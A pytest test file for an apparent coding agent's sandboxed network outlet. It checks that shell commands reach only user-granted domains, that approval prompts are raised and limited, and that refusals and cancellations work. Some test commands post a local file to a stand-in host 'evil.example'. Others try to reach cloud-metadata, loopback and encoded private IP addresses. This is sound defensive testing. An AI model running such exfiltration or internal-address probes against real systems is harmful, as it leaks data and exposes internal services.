# ruff: noqa: E501  # tables read better in few lines
"""A command's way out: nothing but the domains the user granted, through the outlet of its own network."""

import asyncio
import json
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from lsp_agent.domain.run import RunOptions
from lsp_agent.ports.store import PutGrant
from lsp_agent.web.command_outlet import MAX_QUESTIONS
from tests.shell.conftest import git, processes_with, until
from tests.web.site import answer

pytestmark = pytest.mark.skipif(
    sys.platform != "linux" or shutil.which("bwrap") is None or shutil.which("curl") is None,
    reason="needs bwrap and curl",
)

# -------------------------------------------------------------------------------------------------------- what passes


async def test_EX_08_a_domain_of_the_configuration_is_reached_and_no_other(make_net):
    net = await make_net(domains=("site.example",), asks=False)
    result = await net.run(
        f"curl -sS {net.url}; curl -sS -p {net.url}; curl -sS -p {net.evil_url}; curl -sS {net.evil_url}"
    )
    assert result.content.count("from outside") == 2
    assert result.content.count("no connection to evil.example: evil.example was not granted") == 1
    assert net.site.connections == 2
    assert net.evil.connections == 0
    assert net.names.asked == ["site.example", "site.example"]  # EX-02: what is not granted is not looked up
    assert net.told("permission_requested") == []


async def test_tls_goes_through_untouched(make_net, tmp_path):
    import ssl

    import trustme

    authority = trustme.CA()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    authority.issue_cert("site.example").configure_cert(context)
    net = await make_net(domains=("*.example",), ssl=context)
    net.shell.world.file("ca.crt", authority.cert_pem.bytes())
    result = await net.run(f"curl -sS --cacert ca.crt https://site.example:{net.site.port}/")
    assert "from outside" in result.content


async def test_git_clones_through_it(make_net, tmp_path):
    net = await make_net(domains=("site.example",))
    origin = tmp_path / "origin"
    origin.mkdir()
    git(origin, "init", "-b", "main")
    (origin / "hello.txt").write_text("cloned")
    git(origin, "add", ".")
    git(origin, "commit", "-m", "one")
    git(origin, "update-server-info")
    for path in (origin / ".git").rglob("*"):
        if path.is_file():
            net.site.routes[f"/repo.git/{path.relative_to(origin / '.git')}"] = answer(
                path.read_bytes(), kind="text/plain"
            )
    result = await net.run(f"git clone -q {net.url}repo.git copy && cat copy/hello.txt")
    assert "cloned" in result.content, result.content


async def test_pip_downloads_through_it(make_net):
    import io
    import zipfile

    net = await make_net(domains=("site.example",))
    wheel = io.BytesIO()
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("tiny/__init__.py", "")
        archive.writestr("tiny-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n")
        archive.writestr(
            "tiny-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        archive.writestr("tiny-1.0.dist-info/RECORD", "")
    net.site.routes["/simple/tiny/"] = answer('<a href="/tiny-1.0-py3-none-any.whl">tiny-1.0-py3-none-any.whl</a>')
    net.site.routes["/tiny-1.0-py3-none-any.whl"] = answer(wheel.getvalue(), kind="application/zip")
    python = str(Path(sys.executable).resolve())  # a virtual environment below /tmp is not seen in a sandbox
    tried = await asyncio.to_thread(
        subprocess.run, [python, "-m", "pip", "--version"], capture_output=True, timeout=60, check=False
    )
    if tried.returncode:
        pytest.skip(f"{python} has no pip")
    pip = f"{python} -m pip --disable-pip-version-check --no-cache-dir"
    result = await net.run(
        f"{pip} download -q --index-url {net.url}simple --trusted-host site.example --no-deps tiny -d got && ls got"
    )
    assert "tiny-1.0-py3-none-any.whl" in result.content, result.content


@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
async def test_npm_asks_through_it(make_net):
    net = await make_net(domains=("site.example",))
    about = {
        "name": "tiny",
        "dist-tags": {"latest": "1.2.3"},
        "versions": {"1.2.3": {"name": "tiny", "version": "1.2.3", "dist": {}}},
    }
    net.site.routes["/tiny"] = answer(json.dumps(about), kind="application/json")
    result = await net.run(f"HOME=$PWD npm view tiny version --registry {net.url} --cache $PWD/cache 2>&1")
    assert "1.2.3" in result.content, result.content


# ---------------------------------------------------------------------------------------------------------- the question


async def test_the_user_is_asked_and_the_command_waits(make_net):
    net = await make_net()
    task = net.start(f"curl -sS {net.url}; curl -sS -p {net.url}")
    record = await net.choose("allow_once")
    result = await task
    assert result.content.count("from outside") == 2  # one answer holds for the whole command
    assert record["tool"] == "bash"
    assert record["subject"] == {"type": "url", "url": "https://site.example/"}
    assert (record["toolCallId"], record["runId"]) == ("t1", "r1")
    assert record["title"] == "Let a command reach site.example"
    assert "bash go.sh" in record["description"]
    assert {option["pattern"] for option in record["options"] if "pattern" in option} == {"https://site.example/"}
    task = net.start(f"curl -sS {net.url}")
    await net.choose("allow_once")  # once was once
    assert "from outside" in (await task).content
    assert net.evil.connections == 0


async def test_a_grant_lasts_as_long_as_the_user_said(make_net):
    net = await make_net()
    task = net.start(f"curl -sS {net.url}")
    await net.choose("allow_session")
    await task
    assert "from outside" in (await net.run(f"curl -sS {net.url}")).content
    task = net.start(f"curl -sS {net.evil_url}")
    await net.choose("allow_always")
    await task
    assert "evil" in (await net.run(f"curl -sS {net.evil_url}")).content
    assert len(net.told("permission_requested")) == 2
    [grant] = net.shell.world.store.of(PutGrant)
    assert (grant.tool, grant.pattern, grant.session_id) == ("bash", "https://evil.example/", None)


async def test_a_no_is_told_to_the_model_and_not_asked_again_by_the_same_command(make_net):
    net = await make_net()
    task = net.start(f"for i in 1 2 3; do curl -sS -p {net.evil_url} -d @go.sh; done")
    await net.choose("reject_once")
    result = await task
    assert "no connection to evil.example: evil.example was not granted to this command" in result.content
    assert len(net.told("permission_requested")) == 1
    assert (net.evil.connections, net.names.asked) == (0, [])


async def test_several_connections_to_one_host_are_one_question(make_net):
    net = await make_net()
    task = net.start("\n".join(f"curl -sS {net.url} &" for _ in range(6)) + "\nwait")
    await net.question()
    await net.choose("allow_once")
    assert (await task).content.count("from outside") == 6
    assert len(net.told("permission_requested")) == 1


async def test_one_command_cannot_bury_the_user_in_questions(make_net):
    net = await make_net()
    task = net.start("\n".join(f"curl -s http://h{number}.example/ &" for number in range(30)) + "\nwait")
    for _ in range(MAX_QUESTIONS):
        await net.choose("reject_once")
    await task
    assert len(net.told("permission_requested")) == MAX_QUESTIONS


async def test_EX_04_numbers_and_private_places_are_never_asked_for(make_net):
    net = await make_net()
    places = ["127.0.0.1:80", "[::1]:443", "169.254.169.254:80", "10.0.0.1:443", "1.1.1.1:443", "[2606:4700::1111]:443", "localhost:80", "printer.local:80",
              "2130706433:80", "0x7f000001:80", "0177.0.0.1:80", f"site.example:{net.evil.port}", "site.example:22", "metadata.internal:80"]  # fmt: skip
    text = "\n".join(f"curl -sS -p --proxytunnel --noproxy '' http://{place}/ 2>&1 | tail -1" for place in places)
    result = await net.run(text)
    assert result.content.count("403") == len(places)
    assert net.told("permission_requested") == []
    assert (net.site.connections, net.evil.connections, net.names.asked) == (0, 0, [])


async def test_where_nobody_can_be_asked_it_is_refused(make_net):
    net = await make_net()
    result = await net.run(f"curl -sS {net.url}", run=RunOptions(non_interactive=True))
    assert "no connection to site.example" in result.content
    assert net.told("permission_requested") == []
    assert net.site.connections == 0


async def test_an_answer_that_does_not_come_is_a_no(make_net):
    net = await make_net(ask_s=0.3)
    result = await net.run(f"curl -sS {net.url}")
    assert "no connection to site.example" in result.content
    assert [update["outcome"] for update in net.told("permission_resolved")] == ["cancelled"]


async def test_time_does_not_run_while_the_user_thinks(make_net):
    net = await make_net()
    task = net.start(f"curl -sS {net.url}", auto_background_after=1)
    await net.question()
    done, _ = await asyncio.wait([task], timeout=1.6)
    assert not done
    await net.choose("allow_once")
    result = await task
    assert "from outside" in result.content
    assert "background" not in result.content


async def test_a_cancel_withdraws_the_question_and_ends_the_command(make_net):
    net = await make_net()
    task = net.start(f"curl -sS {net.url} mark-of-this-test")
    await net.question()
    started = time.monotonic()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    took = time.monotonic() - started
    print(f"\ncancel while the user is asked: {took * 1000:.0f} ms")
    assert took < 2.5
    assert net.approvals.pending() == []
    names = [u["sessionUpdate"] for u in net.shell.world.events.updates]
    assert names.index("permission_resolved") < len(names) - 1 - names[::-1].index("terminal_update")
    assert processes_with("mark-of-this-test") == []


async def test_a_command_in_the_background_asks_nothing_but_keeps_what_is_granted(make_net):
    allowed: list[str] = []
    net = await make_net(allows=lambda run, mode, ask: ask.pattern in allowed)
    text = f"until [ -e now ]; do sleep 0.05; done; curl -sS {net.url}; touch first; until [ -e again ]; do sleep 0.05; done; curl -sS {net.url}; touch second"
    result = await net.run(text, run_in_background=True)
    job_id = result.metadata["shell_id"]
    net.shell.world.file("now")
    await until((net.shell.root / "first").exists)
    allowed.append("https://site.example/")
    net.shell.world.file("again")
    await until((net.shell.root / "second").exists)
    job = net.shell.jobs.get("s1", job_id)
    await until(job.done.is_set)
    assert job.err.text().count("no connection to site.example") == 1
    assert job.out.text().count("from outside") == 1
    assert net.told("permission_requested") == []
